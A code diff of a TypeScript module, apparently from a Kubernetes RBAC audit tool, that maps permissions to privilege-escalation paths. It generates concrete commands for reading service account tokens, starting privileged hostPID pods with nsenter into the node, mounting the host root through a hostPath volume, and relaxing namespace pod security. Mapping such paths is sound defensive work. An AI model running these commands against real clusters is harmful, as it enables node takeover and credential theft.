@@ -1,4 +1,6 @@
-import { inCluster, inNamespace, type Power } from '../power.ts';
+import { inCluster, inNamespace, type Power, type Use } from '../power.ts';
+import { ACCOUNT_POD, NODE_POD, SHELL_OF_NODE, TOKEN, VOLUME_POD } from './pods.ts';
+import { patch, pathIn, put, write } from './requests.ts';
 
 const PRACTICES = 'https://kubernetes.io/docs/concepts/security/rbac-good-practices/';
 const CONTROLLERS = ['deployments', 'daemonsets', 'statefulsets', 'replicasets'];
@@ -10,24 +12,80 @@ const controllers = [
   inNamespace('', ['replicationcontrollers'], ['create']),
 ];
 
-const podWith = (spec: string, command: string) =>
-  `kubectl -n $NAMESPACE run probe --image=<image> --overrides='{"spec":${spec}}' --command -- ${command}`;
-const TOKEN = 'cat /var/run/secrets/kubernetes.io/serviceaccount/token';
-const ACCOUNT_POD = podWith('{"serviceAccountName":"$ACCOUNT"}', TOKEN);
-const NODE_POD = podWith(
-  '{"nodeName":"$NODE","hostPID":true,"containers":[{"name":"probe","image":"<image>","securityContext":{"privileged":true}}]}',
-  'nsenter -t 1 -m -u -i -n sh',
-);
-const inWorkload = (verb: string) => ({
-  account: [
-    `kubectl -n $NAMESPACE ${verb} # with spec.template.spec.serviceAccountName: $ACCOUNT`,
-    `${TOKEN} # in its pod`,
+const UNDER_ACCOUNT = 'serviceAccountName: $ACCOUNT in its pod template';
+const ON_NODE = 'nodeName: $NODE, hostPID: true and a privileged container in its pod template';
+const created = (what: string) => ({
+  account: [`kubectl -n $NAMESPACE create -f <${what}> # with ${UNDER_ACCOUNT}`, `cat ${TOKEN} # in its pod`],
+  node: [`kubectl -n $NAMESPACE create -f <${what}> # with ${ON_NODE}`, `${SHELL_OF_NODE} # in its pod`],
+});
+const written = (what: string, { account, node }: { readonly account: string; readonly node: string }) => ({
+  account: ([use]: readonly Use[]) => [
+    `${writeWorkload(use!, what)} # with ${account}`,
+    `cat ${TOKEN} # in its pod`,
   ],
-  node: [
-    `kubectl -n $NAMESPACE ${verb} # with nodeName: $NODE, hostPID: true and a privileged container`,
-    'nsenter -t 1 -m -u -i -n sh # in its pod',
+  node: ([use]: readonly Use[]) => [
+    `${writeWorkload(use!, what)} # with ${node}`,
+    `${SHELL_OF_NODE} # in its pod`,
   ],
 });
+const writeWorkload = (use: Use, what: string) =>
+  write(use, {
+    create: `kubectl -n $NAMESPACE create -f <${what}>`,
+    path: pathIn(use.group, use.resource, '<name>'),
+    what: 'its pod template',
+  });
+
+const LABEL = '"labels":{"pod-security.kubernetes.io/enforce":"privileged"}';
+const relax = ({ verb }: Use) =>
+  verb === 'patch'
+    ? patch('/api/v1/namespaces/$NAMESPACE', 'merge', `{"metadata":{${LABEL}}}`)
+    : put(
+        '/api/v1/namespaces/$NAMESPACE',
+        `{"apiVersion":"v1","kind":"Namespace","metadata":{"name":"$NAMESPACE",${LABEL}}}`,
+      );
+
+/** A pod of one's own, or a workload where only those can be created. */
+const onNode =
+  (row: number, first: readonly string[] | ((uses: readonly Use[]) => readonly string[]), pod: string) =>
+  (uses: readonly Use[]) => [
+    ...(typeof first === 'function' ? first(uses) : first),
+    uses[row]?.resource === 'pods'
+      ? pod
+      : `kubectl -n $NAMESPACE create -f <workload> # with the pod of: ${pod}`,
+  ];
+
+const NEW_IMAGE = '{"spec":{"containers":[{"name":"<container>","image":"<image>"}]}}';
+const changeImage = ({ verb }: Use) =>
+  verb === 'patch'
+    ? patch(pathIn('', 'pods', '$NAME'), 'strategic', NEW_IMAGE)
+    : put(pathIn('', 'pods', '$NAME'), '<the whole pod with another image>');
+
+const addContainer = ({ verb }: Use, container: string) => {
+  const path = `${pathIn('', 'pods', '$NAME')}/ephemeralcontainers`;
+  const spec = `"spec":{"ephemeralContainers":[{"name":"probe","image":"<image>",${container}}]}`;
+  return verb === 'patch'
+    ? patch(path, 'strategic', `{${spec}}`)
+    : // All but the ephemeral containers is taken from the pod that there is.
+      put(path, `{"apiVersion":"v1","kind":"Pod","metadata":{"name":"$NAME"},${spec}}`);
+};
+
+const websocket = (url: string) =>
+  `websocat -H 'Authorization: Bearer <token>' --protocol v4.channel.k8s.io 'wss://<server>${url}'`;
+const READ_TOKEN = `command=cat&command=${TOKEN}`;
+const viaKubelet = ({ verb }: Use, command: readonly string[]) => {
+  const path = (endpoint: string) => `/api/v1/nodes/$HOST/proxy/${endpoint}/$NAMESPACE/$NAME/<container>`;
+  // A POST to /run answers with the output; a GET has to be a websocket.
+  return verb === 'create'
+    ? `kubectl create --raw '${path('run')}?cmd=${command.join('%20')}' -f /dev/null`
+    : websocket(`${path('exec')}?output=1&${command.map((word) => `command=${word}`).join('&')}`);
+};
+
+const byGet = ({ resource }: Use, command: string) => {
+  const pod = pathIn('', 'pods', '$NAME');
+  return resource === 'pods/attach'
+    ? `${websocket(`${pod}/attach?stdin=1&stdout=1`)} # to a shell`
+    : websocket(`${pod}/exec?stdout=1&${command}`);
+};
 
 /** Running code: in pods of one's own, in those of others, on nodes. */
 export const WORKLOAD_POWERS = [
@@ -44,55 +102,58 @@ export const WORKLOAD_POWERS = [
     needs: [controllers],
     gives: 'pods',
     certainty: 'proven',
-    commands: inWorkload('create -f <workload>'),
+    commands: created('workload'),
     source: `${PRACTICES}#workload-creation`,
   },
   {
     id: 'change-workload',
     needs: [
       [
-        inNamespace('apps', CONTROLLERS, ['update', 'patch']),
-        inNamespace('batch', ['cronjobs'], ['update', 'patch']),
-        inNamespace('', ['replicationcontrollers'], ['update', 'patch']),
+        inNamespace('apps', CONTROLLERS, ['patch', 'update']),
+        inNamespace('batch', ['cronjobs'], ['patch', 'update']),
+        inNamespace('', ['replicationcontrollers'], ['patch', 'update']),
       ],
     ],
     gives: 'changed-workloads',
     certainty: 'proven',
-    commands: inWorkload('edit <workload>'),
+    commands: written('workload', { account: UNDER_ACCOUNT, node: ON_NODE }),
     source: `${PRACTICES}#workload-creation`,
   },
   {
     id: 'custom-workload',
     needs: [
       [
-        inNamespace('argoproj.io', ['workflows', 'cronworkflows', 'rollouts'], ['create', 'update', 'patch']),
+        inNamespace('argoproj.io', ['workflows', 'cronworkflows', 'rollouts'], ['create', 'patch', 'update']),
         inNamespace('tekton.dev', ['taskruns', 'pipelineruns'], ['create']),
-        inNamespace('serving.knative.dev', ['services', 'configurations'], ['create', 'update', 'patch']),
+        inNamespace('serving.knative.dev', ['services', 'configurations'], ['create', 'patch', 'update']),
         inNamespace('batch.volcano.sh', ['jobs'], ['create']),
         inNamespace('kubeflow.org', ['pytorchjobs', 'tfjobs', 'mpijobs', 'notebooks'], ['create']),
-        inNamespace('ray.io', ['rayclusters', 'rayjobs', 'rayservices'], ['create', 'update', 'patch']),
-        inNamespace('keda.sh', ['scaledjobs'], ['create', 'update', 'patch']),
+        inNamespace('ray.io', ['rayclusters', 'rayjobs', 'rayservices'], ['create', 'patch', 'update']),
+        inNamespace('keda.sh', ['scaledjobs'], ['create', 'patch', 'update']),
         inNamespace(
           'monitoring.coreos.com',
           ['prometheuses', 'alertmanagers'],
-          ['create', 'update', 'patch'],
+          ['create', 'patch', 'update'],
         ),
       ],
     ],
     gives: 'custom-workloads',
     // What pods come of a custom resource is up to its controller.
     certainty: 'possible',
-    commands: inWorkload('create -f <custom-resource>'),
+    commands: written('custom-resource', {
+      account: 'the service account $ACCOUNT for its pods',
+      node: ON_NODE,
+    }),
     source: `${PRACTICES}#workload-creation`,
   },
   {
     id: 'change-pod',
-    needs: [[inNamespace('', ['pods'], ['update', 'patch'])]],
+    needs: [[inNamespace('', ['pods'], ['patch', 'update'])]],
     gives: 'code',
     certainty: 'proven',
     commands: {
-      account: ['kubectl -n $NAMESPACE set image pod/$NAME <container>=<image>', `${TOKEN} # in its pod`],
-      node: ['kubectl -n $NAMESPACE set image pod/$NAME <container>=<image>'],
+      account: ([use]) => [changeImage(use!), `cat ${TOKEN} # in the pod, by the new image`],
+      node: ([use]) => [changeImage(use!), `${SHELL_OF_NODE} # in the pod, by the new image`],
     },
     source: 'https://kubernetes.io/docs/concepts/workloads/pods/#pod-update-and-replacement',
   },
@@ -102,7 +163,7 @@ export const WORKLOAD_POWERS = [
     gives: 'code',
     certainty: 'proven',
     commands: {
-      account: [`kubectl -n $NAMESPACE exec $NAME -- ${TOKEN}`],
+      account: [`kubectl -n $NAMESPACE exec $NAME -- cat ${TOKEN}`],
       node: ['kubectl -n $NAMESPACE exec -it $NAME -- sh'],
     },
     source: 'https://kubernetes.io/docs/tasks/debug/debug-application/get-shell-running-container/',
@@ -113,7 +174,10 @@ export const WORKLOAD_POWERS = [
     gives: 'code',
     // v1.35 and later ask for create as well (AuthorizePodWebsocketUpgradeCreatePermission).
     certainty: 'possible',
-    commands: { account: [`websocat wss://<server>/api/v1/namespaces/$NAMESPACE/pods/$NAME/exec?command=…`] },
+    commands: {
+      account: ([use]) => [byGet(use!, READ_TOKEN)],
+      node: ([use]) => [byGet(use!, 'stdin=1&command=sh')],
+    },
     source: 'kubernetes/kubernetes issue 133515',
   },
   {
@@ -130,14 +194,18 @@ export const WORKLOAD_POWERS = [
   },
   {
     id: 'debug',
-    needs: [[inNamespace('', ['pods/ephemeralcontainers'], ['update', 'patch'])]],
+    needs: [[inNamespace('', ['pods/ephemeralcontainers'], ['patch', 'update'])]],
     gives: 'debugged-code',
     certainty: 'proven',
     commands: {
-      account: [
-        'kubectl -n $NAMESPACE debug $NAME --image=<image> --target=<container> -it -- cat /proc/1/root/var/run/secrets/kubernetes.io/serviceaccount/token',
+      account: ([use]) => [
+        addContainer(use!, `"targetContainerName":"<container>","command":["cat","/proc/1/root${TOKEN}"]`),
+        'kubectl -n $NAMESPACE logs $NAME -c probe',
       ],
-      node: ['kubectl -n $NAMESPACE debug $NAME --image=<image> --profile=sysadmin -it -- sh'],
+      node: ([use]) => [
+        addContainer(use!, '"stdin":true,"tty":true,"securityContext":{"privileged":true}'),
+        'kubectl -n $NAMESPACE attach -it $NAME -c probe',
+      ],
     },
     source: 'https://kubernetes.io/docs/concepts/workloads/pods/ephemeral-containers/',
   },
@@ -148,11 +216,9 @@ export const WORKLOAD_POWERS = [
     gives: 'node-code',
     certainty: 'proven',
     commands: {
-      account: [
-        `websocat wss://<server>/api/v1/nodes/<node>/proxy/exec/$NAMESPACE/$NAME/<container>?command=cat&command=/var/run/secrets/kubernetes.io/serviceaccount/token`,
-      ],
-      node: [
-        'kubectl get --raw /api/v1/nodes/<node>/proxy/pods # then a command in a privileged one of them',
+      account: ([use]) => [viaKubelet(use!, ['cat', TOKEN])],
+      node: ([use]) => [
+        `${viaKubelet(use!, ['nsenter', '-t', '1', '-m', '-u', '-i', '-n', 'id'])} # in a privileged container`,
       ],
     },
     source: `${PRACTICES}#access-to-proxy-subresource-of-nodes`,
@@ -167,26 +233,21 @@ export const WORKLOAD_POWERS = [
     gives: 'volumes',
     certainty: 'proven',
     commands: {
-      node: [
-        'kubectl create -f <volume> # a PersistentVolume with hostPath: /, bound to a claim in $NAMESPACE',
-        podWith(
-          '{"nodeName":"$NODE","volumes":[{"name":"host","persistentVolumeClaim":{"claimName":"<claim>"}}]}',
-          'chroot <mount> sh',
-        ),
-      ],
+      node: onNode(
+        0,
+        ['kubectl create -f <volume> # a PersistentVolume with hostPath: /, and a claim to it in $NAMESPACE'],
+        VOLUME_POD,
+      ),
     },
     source: `${PRACTICES}#persistent-volume-creation`,
   },
   {
     id: 'relax-pod-security',
-    needs: [[inNamespace('', ['namespaces'], ['update', 'patch'])], [pods, ...controllers]],
+    needs: [[inNamespace('', ['namespaces'], ['patch', 'update'])], [pods, ...controllers]],
     gives: 'unguarded-pods',
     certainty: 'proven',
     commands: {
-      node: [
-        'kubectl label namespace $NAMESPACE --overwrite pod-security.kubernetes.io/enforce=privileged',
-        NODE_POD,
-      ],
+      node: onNode(1, ([use]) => [relax(use!)], NODE_POD),
     },
     source: `${PRACTICES}#namespace-modification`,
   },
@@ -201,7 +262,7 @@ export const WORKLOAD_POWERS = [
   {
     id: 'proxy',
     needs: [
-      [inNamespace('', ['pods/proxy', 'services/proxy'], ['get', 'create', 'update', 'patch', 'delete'])],
+      [inNamespace('', ['pods/proxy', 'services/proxy'], ['get', 'create', 'patch', 'update', 'delete'])],
     ],
     gives: { effect: 'network-reach' },
     certainty: 'possible',
